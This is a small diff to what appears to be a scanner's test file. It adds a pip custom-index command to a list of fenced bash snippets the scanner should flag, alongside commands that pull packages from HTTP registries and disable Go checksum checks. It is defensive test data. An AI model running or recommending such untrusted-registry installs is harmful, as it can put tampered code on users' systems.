@@ -8,6 +8,7 @@ from tests.core.scan.checking import check_clean, check_found
 FOUND = [
     "```bash\npip install --extra-index-url http://pkg.moss-drop.net/simple tools\n```",
     "```bash\nnpm config set registry http://npm.moss-drop.net/\n```",
+    "```bash\npip install -i https://pypi.moss.dev/simple tools\n```",
     "```bash\nGOFLAGS=-insecure GOSUMDB=off go get moss.net/x\n```",
 ]
 CLEAN = [
